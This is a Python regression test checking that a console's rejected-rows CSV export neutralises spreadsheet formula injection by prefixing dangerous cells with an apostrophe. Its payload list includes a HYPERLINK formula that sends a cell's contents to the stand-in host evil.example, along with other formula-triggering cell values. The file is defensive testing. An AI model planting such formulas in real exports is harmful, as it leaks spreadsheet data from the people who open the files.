"""批量导入's 退回行 CSV (f64cd79) wrote the uploaded cells as they were: a cell starting with
= + - @ (or a tab / CR) opened in Excel as a live formula. It now goes through the exports'
guard (techmatch.matcher.batch.export.formula_safe): such text gets a leading apostrophe."""

from __future__ import annotations

import csv
import io
import re

from api_support import console_login, csrf_of
from fastapi.testclient import TestClient
from test_console_decide import HTML

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+86 1234", "-2+3", "@SUM(1+1)",
        "\t=1+1", "\r=1+1"]


def test_rejected_rows_csv_keeps_formula_like_cells_as_text(client: TestClient) -> None:
    console_login(client, "write")
    rows = [["需求编号", "需求名称", "需求描述", "城市", "状态", "=备注"],
            ["fx-ok", "焊接机器人", "焊缝跟踪", "西安", "待匹配", "普通"],
            ["fx-1", EVIL[0], EVIL[1], EVIL[2], "处理中", EVIL[3]],
            ["fx-2", "控制器", EVIL[4], EVIL[5], "处理中", "-"]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    form = client.get("/upload", headers=HTML)
    token = csrf_of(form.text)
    page = client.post("/upload", headers=HTML, data={"kind": "need",
                                                      "csrf_token": token},
                       files={"file": ("fx.csv", out.getvalue().encode("utf-8"))})
    assert page.status_code == 200, page.text[-800:]
    link = re.search(r'id="rejects-csv" href="([^"]+)"', page.text)
    assert link is not None, page.text[-800:]
    got = client.get(link.group(1), headers=HTML)
    assert got.status_code == 200
    table = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"), newline="")))
    assert table[0] == ["行号", "字段", "退回原因", "需求编号", "需求名称", "需求描述", "城市",
                        "状态", "'=备注"]
    assert table[1][3:] == ["fx-1", "'" + EVIL[0], "'" + EVIL[1], "'" + EVIL[2], "处理中",
                            "'" + EVIL[3]]
    assert table[2][3:] == ["fx-2", "控制器", "'" + EVIL[4], "'" + EVIL[5], "处理中", "'-"]
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(starts) for row in table for cell in row)
